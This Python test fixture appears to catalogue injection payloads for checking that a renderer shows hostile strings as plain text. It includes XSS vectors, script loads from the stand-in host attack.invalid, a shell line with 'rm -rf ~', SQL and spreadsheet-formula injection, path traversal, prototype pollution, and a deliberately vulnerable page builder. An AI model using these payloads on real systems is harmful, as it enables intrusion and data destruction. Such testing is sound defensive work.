"""Strings that do harm where a program takes them for more than text, and pages that carry them.

Each would set `top.pwned`, call `alert` or ask http://attack.invalid/ for something if it ran; `tests.browsers.ran`
and a page's watch see that. `sloppy` puts one where it does run, so that the list can be tested itself. Strings that
run nowhere are to be shown as text (or refused with a reason), whole and in their order.
"""

import html
import json
from collections.abc import Iterator
from typing import Literal, NamedTuple

Where = Literal["html", "attribute", "script", "link", "style", "merge", "shown"]
SITE = "http://attack.invalid/"


class Attack(NamedTuple):
    """One string: its name, where in a careless page it would run, and what it is."""

    name: str
    where: Where
    text: str


def _all() -> Iterator[Attack]:
    yield from _elements()
    yield from _in_other_places()
    yield from _invisible()
    yield from _merely_strange()


def _elements() -> Iterator[Attack]:
    """Where text is put into a page as HTML."""
    rows = {
        "image that fails": "<img src=x: onerror=top.pwned=1>",
        "image asked for": f"<img src={SITE}image>",
        "image, upper case and slashes": "<ImG/sRc=x:/OnErRoR=top.pwned=1>",
        "image, entity in the handler": "<img src=x: onerror=&#97;lert(1)>",
        "image, no end": "<img src=x: onerror=alert(1)//",
        "image, line break in it": "<img\nsrc=x:\nonerror=alert(1)>",
        "svg onload": "<svg onload=top.pwned=1>",
        "svg style": "<svg><style><img src=x: onerror=top.pwned=1></style></svg>",
        "math nesting": "<math><annotation-xml encoding=text/html><img src=x: onerror=top.pwned=1>",
        "open details": "<details open ontoggle=top.pwned=1>x</details>",
        "autofocus": "<input autofocus onfocus=top.pwned=1>",
        "audio that fails": "<audio src=x: onerror=top.pwned=1></audio>",
        "body onload": "<body onload=top.pwned=1 onpageshow=top.pwned=1>",
        "animation": "<style>@keyframes a{}</style><b style='animation:a 1s' onanimationstart=top.pwned=1>x</b>",
        "srcdoc": "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
        "srcdoc, entities": "<iframe srcdoc='&lt;script&gt;top.pwned=1&lt;/script&gt;'></iframe>",
        "iframe of javascript": "<iframe src='javascript:top.pwned=1'></iframe>",
        "iframe of data": f"<iframe src=\"data:text/html,<img src='{SITE}data'>\"></iframe>",
        "object": f"<object data={SITE}object></object>",
        "embed": f"<embed src={SITE}embed>",
        "script element": f"<script src={SITE}script.js></script>",
        "script inline": "<script>top.pwned=1</script>",
        "script, lone end before it": "</script><script>top.pwned=1</script>",
        "style sheet": f"<link rel=stylesheet href={SITE}style.css>",
        "style import": f"<style>@import '{SITE}import.css';</style>",
        "background": f"<b style=\"background:url('{SITE}background')\">x</b>",
        "meta refresh": f"<meta http-equiv=refresh content='0;url={SITE}refresh'>",
        "base": f"<base href={SITE}><img src=base>",
        "form sent by focus": "<form><button autofocus onfocus=top.pwned=1>x</button></form>",
        "comment ended early": "<!--> <img src=x: onerror=top.pwned=1> -->",
        "comment with a bang": "<!-- --!><img src=x: onerror=top.pwned=1>",
        "CDATA": "<![CDATA[><img src=x: onerror=top.pwned=1>]]>",
        "processing instruction": "<?xml ><img src=x: onerror=top.pwned=1>?>",
        "title ended": "</title><img src=x: onerror=top.pwned=1>",
        "textarea ended": "</textarea><img src=x: onerror=top.pwned=1>",
        "noscript": "<noscript><p title='</noscript><img src=x: onerror=top.pwned=1>'>",
        "template": "<template></template><img src=x: onerror=top.pwned=1>",
        "many languages at once": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=top.pwned=1 )//%0D%0A\r\n"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=top.pwned=1//>\\x3e",
    }
    for name, text in rows.items():
        yield Attack(name, "html", text)


def _in_other_places() -> Iterator[Attack]:
    """Where text is put into an attribute, a script, a link, a style or a plain object."""
    yield Attack("double quote ends the attribute", "attribute", '" autofocus tabindex=0 onfocus=top.pwned=1 x="')
    yield Attack("attribute and element ended", "attribute", '"><img src=x: onerror=top.pwned=1>')
    yield Attack("string ended, double", "script", '";top.pwned=1;//')
    yield Attack("string ended, single", "script", "';top.pwned=1;//")
    yield Attack("string ended by a backslash", "script", '\\";top.pwned=1;//')
    yield Attack("template literal", "script", "${top.pwned=1}")
    yield Attack("template literal ended", "script", "`;top.pwned=1;//")
    yield Attack("script ended", "script", "</script><img src=x: onerror=top.pwned=1>")
    yield Attack("script ended, upper case and a blank", "script", "</SCRIPT ><img src=x: onerror=top.pwned=1>")
    yield Attack("javascript link", "link", "javascript:void(top.pwned=1)")
    yield Attack("javascript link, tab in it", "link", "java\tscript:void(top.pwned=1)")
    yield Attack("javascript link, control before it", "link", "\x01javascript:void(top.pwned=1)")
    yield Attack("javascript link, upper case", "link", " JaVaScRiPt:alert(1)")
    yield Attack("link elsewhere", "link", f"{SITE}link")
    yield Attack("link elsewhere, no scheme", "link", "//attack.invalid/link")
    yield Attack("style loads", "style", f"x;background:url({SITE}style)")
    yield Attack("style ended", "style", "}</style><img src=x: onerror=top.pwned=1>")
    yield Attack("prototype", "merge", '{"__proto__": {"pwned": 1}}')
    yield Attack("prototype by the constructor", "merge", '{"constructor": {"prototype": {"pwned": 1}}}')


def _invisible() -> Iterator[Attack]:
    """Characters that are not seen, or that change the order of others."""
    rows = {
        "override to the left": "文\u202e]绝拒[\u202c人",
        "override not ended": "请看\u202eexe.txt",
        "isolate not ended": "请看\u2067abc",
        "embedding not ended": "请看\u202babc",
        "marks of direction": "党\u200e群\u200f关\u061c系",
        "right-to-left words": "群众 שלום العربية 路线",
        "zero width": "党\u200b群\u200c关\u200d系\u2060的\ufeff建设",
        "soft hyphen and joiner": "关\u00ad系\u034f和谐",
        "variation selectors": "葛\U000e0100城\ufe0f市",
        "tag characters": "群众\U000e0068\U000e0069\U000e007f",
        "many marks on one": "群" + "\u0301\u0323" * 200 + "众",
        "line and paragraph separator": "党\u2028群\u2029关\x85系",
        "null": "党\x00群",
        "controls": "党\x01\x07\x08\x0b\x0c\x0e\x1b\x7f\x9f群",
        "terminal colours": "\x1b[31m红\x1b[0m\x1b]0;title\x07\x1b[2J",
        "terminal link": "\x1b]8;;http://attack.invalid/\x1b\\群众\x1b]8;;\x1b\\",
        "carriage return alone": "被盖住\r看见的",
        "half a character, high": "党\ud842群",
        "half a character, low": "党\udfb7群",
        "halves the wrong way round": "\udfb7\ud842群",
        "no character": "党\ufffe\uffff\U0010ffff群",
        "private use": "党\ue000\U000f0000群",
        "beyond the first plane": "𠮷𠀋𡈽野家",
        "composed and not": "é e\u0301 한 \u1112\u1161\u11ab",
        "look-alikes": "раураl аdmin 〇零○O0",
        "emoji of several": "👨\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈群众",
    }
    for name, text in rows.items():
        yield Attack(name, "shown", text)


def _merely_strange() -> Iterator[Attack]:
    """Text of other tongues, and too much of it."""
    rows = {
        "entities": "&lt;b&gt;群众&lt;/b&gt; &amp;amp; &#x3c;img&#62; &NotEqualTilde; &nbsp",
        "key of every object": "__proto__",
        "constructor": "constructor",
        "toString": "toString",
        "hasOwnProperty": "hasOwnProperty",
        "database": "'; DROP TABLE notes; --",
        "shell": "$(touch pwned) `touch pwned` ; rm -rf ~ | cat",
        "format": "{0.__class__} %s %n {{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
        "formula": "=cmd|' /C calc'!A0",
        "formula, at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
        "path": "../../../../etc/passwd",
        "path, Windows": "..\\..\\CON:\\\\nul|<>*?.txt",
        "markdown": "[群众](javascript:top.pwned=1) ![x](http://attack.invalid/markdown) `x`\n# 一\n\n| a | b |",
        "mathematics": "$\\href{javascript:top.pwned=1}{群众}$ \\unicode{x41} $$\\def\\x{\\x\\x}\\x$$",
        "rich": "[bold red]群众[/] [link=http://attack.invalid/]线[/link] [/no such]",
        "JSON": '{"op": "hello", "view": {"$ref": "#"}}',
        "number": "1e999",
        "negative zero": "-0",
        "null word": "null",
        "undefined word": "undefined",
        "blanks only": " \u3000\t\u00a0 ",
        "empty": "",
        "long": "群众路线" * 25_000,
        "long without a break": "a" * 100_000,
        "deep": "[" * 20_000 + "]" * 20_000,
        "deep elements": "<b>" * 5_000 + "群众",
    }
    for name, text in rows.items():
        yield Attack(name, "shown", text)


ATTACKS: tuple[Attack, ...] = tuple(_all())


def can_be_written(text: str) -> bool:
    """Whether UTF-8 has the text: halves of characters it has not, so a file or a message never holds them."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def in_one_line(text: str) -> str:
    """The text without what would end a line of a page: a title is one line."""
    return " ".join(text.split("\n")).replace("\r", " ")


def pages() -> dict[str, str]:
    """By the attack's name: a page as it is copied, the string in its title, category, uploader, headings and text.

    Short strings only, all but those that are no text of a file; the long ones stand in `long_pages`.
    """
    return {
        attack.name: _page(attack.text) for attack in ATTACKS if len(attack.text) < 1000 and can_be_written(attack.text)
    }


def long_pages() -> dict[str, str]:
    """The same, of the strings that a page is slow with."""
    return {attack.name: _page(attack.text) for attack in ATTACKS if len(attack.text) >= 1000}


def all_at_once() -> str:
    """One page with every short string in a sentence, a heading and a paragraph of its own."""
    short = [in_one_line(attack.text) for attack in ATTACKS if len(attack.text) < 1000 and can_be_written(attack.text)]
    parts = [
        f"（{_numeral(number)}）{text}之说\n有人写道{text}，群众都看见了。{text}\n"
        for number, text in enumerate(short, 1)
    ]
    return f"论{short[0]}.doc\n上传人:{short[0]} 文档编号:1 页数:1\n资源描述\n论{short[0]}\n一、都在这里\n" + "".join(
        parts
    )


def _page(text: str) -> str:
    """The furniture is that of a site the library knows, so that the uploader and the category are read as facts."""
    line = in_one_line(text)
    return (
        f"论{line}.doc\n\n当前位置：首页 > {line} > 文档\n"
        f"上传人:{line.replace(' ', '/')} 文档编号:1 上传时间:2019-03-04 格式:DOC 页数:5 大小:24.50KB\n资源描述\n\n"
        f"论{line}\n一、{line}的来历\n有人写道{text}，群众都看见了。党群关系要好。\n{line}\n"
        f"二、怎样对待{line}\n（一）{line}\n应当接受群众监督{text}。只有这样，选举才有效。\n（二）不怕{line}\n群众路线是根本。\n"
        "展开阅读全文\ncopyright © 2019 wenke99.com\n"
    )


def _numeral(number: int) -> str:
    digits = "零一二三四五六七八九"
    hundreds, rest = divmod(number, 100)
    tens, ones = divmod(rest, 10)
    if not hundreds:
        return (
            ("" if tens == 1 else digits[tens] if tens else "")
            + ("十" if tens else "")
            + (digits[ones] if ones else "")
        )
    return (
        f"{digits[hundreds]}百"
        + (f"{digits[tens]}十" if tens else "零" if ones else "")
        + (digits[ones] if ones else "")
    )


def sloppy(attack: Attack) -> str:
    """A page that takes the string for more than text, in the way it is made for."""
    text = attack.text
    half_escaped = text.replace('"', '\\"')  # and the backslash not
    templates = {
        "html": f"<p>{text}</p>",
        "attribute": f'<p title="{text}">x</p>',
        "script": f"<script>const a = \"{text}\";</script><script>const b = '{text}';</script>"
        f'<script>const c = `{text}`;</script><script>const d = "{half_escaped}";</script>',
        "link": f'<a id=a href="{html.escape(text)}">x</a><script>a.click()</script>',
        "style": f"<style>p {{ color: {text} }}</style><p>x</p>",
        "merge": f"""<script>
            const merge = (into, from) => {{
                for (const key of Object.keys(from)) {{
                    if (from[key] instanceof Object && into[key]) merge(into[key], from[key]);
                    else into[key] = from[key];
                }}
            }};
            merge({{}}, JSON.parse({json.dumps(text)}));
        </script>""",
        "shown": f"<p>{html.escape(text)}</p>",
    }
    body = templates[attack.where]
    return f"<!doctype html><html lang=zh><meta charset=utf-8><title>x</title>{body}</html>"
